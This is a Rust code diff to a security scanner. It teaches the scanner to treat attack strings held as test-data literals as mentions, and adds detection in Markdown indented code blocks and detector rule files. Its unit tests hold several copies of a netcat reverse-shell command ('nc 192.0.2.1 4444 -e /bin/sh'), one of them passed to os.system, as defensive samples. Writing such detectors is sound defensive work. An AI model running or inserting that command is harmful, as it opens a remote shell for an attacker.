@@ -535,6 +535,11 @@ fn is_pattern_literal(line: &str) -> bool {
         "Regex::new(",
         "regexp.MustCompile(",
         "Pattern.compile(",
+        // Rule files of detectors (YAML / JSON): `pattern: '…'`, `"regex": "…"`.
+        "pattern: ",
+        "regex: ",
+        "\"pattern\":",
+        "\"regex\":",
     ]
     .iter()
     .any(|o| line.contains(o));
@@ -542,9 +547,90 @@ fn is_pattern_literal(line: &str) -> bool {
         return false;
     }
     let tokens = [
-        "\\s", "\\b", "\\.", "\\d", "\\w", "(?:", "(?i)", "[^", ")*", ")?", "|\\",
+        "\\s", "\\b", "\\.", "\\d", "\\w", "(?:", "(?i)", "[^", ")*", ")?", "|\\", ".*", "\\(",
     ];
     tokens.iter().filter(|t| line.contains(*t)).count() >= 2
+}
+
+/// Whether bytes `start..end` of a code line sit inside one string literal (`"…"`, `'…'`, `` `…` ``)
+/// and nothing on the line runs a string (`system(`, `exec(`, `subprocess`, `spawn(`…): test data.
+fn test_data_literal(line: &str, start: usize, end: usize) -> bool {
+    const RUNNERS: &[&str] = &[
+        "system(",
+        "exec(",
+        "eval(",
+        "popen(",
+        "Popen(",
+        "subprocess",
+        "spawn(",
+        "execSync(",
+        "check_output(",
+        "Invoke-Expression",
+        "iex ",
+        "child_process",
+        "`",
+    ];
+    if RUNNERS.iter().any(|r| line.contains(r)) {
+        return false;
+    }
+    let b = line.as_bytes();
+    let mut open: Option<u8> = None;
+    let mut opened_at = 0;
+    let mut i = 0;
+    while i < b.len() && i < end {
+        let c = b[i];
+        match open {
+            Some(_) if c == b'\\' => i += 1,
+            Some(q) if c == q => open = None,
+            None if matches!(c, b'"' | b'\'') => {
+                open = Some(c);
+                opened_at = i;
+            }
+            _ => {}
+        }
+        i += 1;
+    }
+    // Still inside the literal opened before the match, and it closes after it; or the whole line
+    // is data (`"name": "sample",`) and the match runs across its literals.
+    open.is_some() && opened_at < start && b[end.min(b.len())..].iter().any(|&c| Some(c) == open)
+        || data_line(line)
+}
+
+/// Whether a code line is only string literals and the punctuation of a list, map or assignment
+/// (`"k": "v",`, `x = ["a", "b"]`).
+fn data_line(line: &str) -> bool {
+    let mut rest = String::new();
+    let mut open: Option<char> = None;
+    let mut literals = 0;
+    let mut escaped = false;
+    for c in line.chars() {
+        match open {
+            Some(_) if escaped => escaped = false,
+            Some(_) if c == '\\' => escaped = true,
+            Some(q) if c == q => open = None,
+            Some(_) => {}
+            None if c == '"' || c == '\'' => {
+                open = Some(c);
+                literals += 1;
+            }
+            None => rest.push(c),
+        }
+    }
+    let rest = rest.trim_start();
+    // An assignment or key at the start (`SAMPLE = `, `sample: `).
+    let ident = rest
+        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '.'))
+        .unwrap_or(rest.len());
+    let rest = if ident > 0 && rest[ident..].trim_start().starts_with(['=', ':']) {
+        &rest[ident..]
+    } else {
+        rest
+    };
+    open.is_none()
+        && literals > 0
+        && rest
+            .chars()
+            .all(|c| c.is_whitespace() || "=:,()[]{};".contains(c))
 }
 
 /// How far before and after a soft line break the joined text is searched.
@@ -628,6 +714,9 @@ pub fn scan_file(rules: &RuleSet, file: &str, content: &str) -> FileScan {
     let out = &mut scan.findings;
     let mut per_rule: std::collections::BTreeMap<usize, usize> = Default::default();
     let mut in_fence: Option<&str> = None;
+    // CommonMark indented code blocks (four spaces after a blank line, no fence): the state of the
+    // Markdown block structure that decides them ([`IndentedCode`]).
+    let mut indented = super::markdown::IndentedCode::default();
     let mut prompt_at: Option<usize> = None;
     let mut section = 0u32;
     // Byte range of the current section's heading line (a blockquote under "Examples" is shown).
@@ -691,8 +780,12 @@ pub fn scan_file(rules: &RuleSet, file: &str, content: &str) -> FileScan {
             }
             None => (idx + 1, physical_start, physical, false),
         };
-        let in_code_now =
-            kind == FileKind::Code || kind == FileKind::Markdown && in_fence.is_some();
+        let in_indented_code = kind == FileKind::Markdown
+            && in_fence.is_none()
+            && !is_joined
+            && indented.step(physical);
+        let in_code_now = kind == FileKind::Code
+            || kind == FileKind::Markdown && (in_fence.is_some() || in_indented_code);
         if in_code_now && line.ends_with('\\') && line.len() < 64 * 1024 {
             continued = Some((line_no, line_start, line[..line.len() - 1].to_owned()));
             continue;
@@ -700,7 +793,9 @@ pub fn scan_file(rules: &RuleSet, file: &str, content: &str) -> FileScan {
         if kind == FileKind::Markdown {
             let trimmed = line.trim_start();
             let fence = ["```", "~~~"].into_iter().find(|f| trimmed.starts_with(f));
-            if let Some(f) = fence {
+            if let Some(f) = fence
+                && !in_indented_code
+            {
                 in_fence = match in_fence {
                     Some(open) if open == f => None,
                     None => Some(f),
@@ -721,7 +816,7 @@ pub fn scan_file(rules: &RuleSet, file: &str, content: &str) -> FileScan {
         }
         let in_code = match kind {
             FileKind::Code => true,
-            FileKind::Markdown => in_fence.is_some(),
+            FileKind::Markdown => in_fence.is_some() || in_indented_code,
             FileKind::Text => false,
         };
         // The ClawHavoc shape: an instruction to paste a command into a terminal, then a payload.
@@ -779,7 +874,14 @@ pub fn scan_file(rules: &RuleSet, file: &str, content: &str) -> FileScan {
             // A joined line is new text: search it (rare).
             rules.scan_line(line, in_code)
         } else {
-            rules.confirm_in(line, rules.scope(in_code, inline_code), &candidates)
+            // An indented code block is code, but it was long read as prose and still holds what
+            // prose holds (a lone link to open, a sentence indented by habit): both sets of rules.
+            let scope = if in_indented_code {
+                rules.scope(false, true)
+            } else {
+                rules.scope(in_code, inline_code)
+            };
+            rules.confirm_in(line, scope, &candidates)
         };
         // A soft-wrapped paragraph: the previous prose line joined with this one, searched with the
         // rules of both lines' keywords; only matches that cross the break are new (each line's own
@@ -878,6 +980,12 @@ pub fn scan_file(rules: &RuleSet, file: &str, content: &str) -> FileScan {
                     }
                     Context::Test => place.test,
                     Context::Signature => place.signature || in_code && is_pattern_literal(line),
+                });
+                // In a test file, an attack string held as data (a sample a detector is tested
+                // on) is mentioned, not done; a line that hands the string to a runner still acts.
+                let mention = mention.or_else(|| {
+                    (place.test && in_code && test_data_literal(line, hit.start, hit.end))
+                        .then_some(&Context::Test)
                 });
                 if let Some(fact) = rule.fact
                     && mention.is_none()
@@ -980,6 +1088,27 @@ mod tests {
         let q = r#"Attackers hide text with "font-size:0" in a span."#;
         assert!(!super::in_html_tag(q, q.find("font-size").unwrap()));
         assert!(!super::in_html_tag("a < b and \"c\"", 12));
+    }
+
+    #[test]
+    fn attack_strings_held_as_test_data() {
+        let l = r#"    "nc-exec": "nc 192.0.2.1 4444 -e /bin/sh","#;
+        let at = l.find("nc 192").unwrap();
+        assert!(super::test_data_literal(l, at, at + 20));
+        let run = r#"    os.system("nc 192.0.2.1 4444 -e /bin/sh")"#;
+        let at = run.find("nc 192").unwrap();
+        assert!(!super::test_data_literal(run, at, at + 20));
+        let across = r#"    "nc-exec": "nc 192.0.2.1 4444 -e /bin/sh","#;
+        let at = across.find("nc-exec").unwrap();
+        assert!(super::test_data_literal(
+            across,
+            at,
+            across.find("-e ").unwrap() + 3
+        ));
+        let call = r#"    run_sample("nc 192.0.2.1 4444 -e /bin/sh")"#;
+        assert!(!super::data_line(call));
+        let bare = "nc 192.0.2.1 4444 -e /bin/sh";
+        assert!(!super::test_data_literal(bare, 0, 20));
     }
 
     #[test]
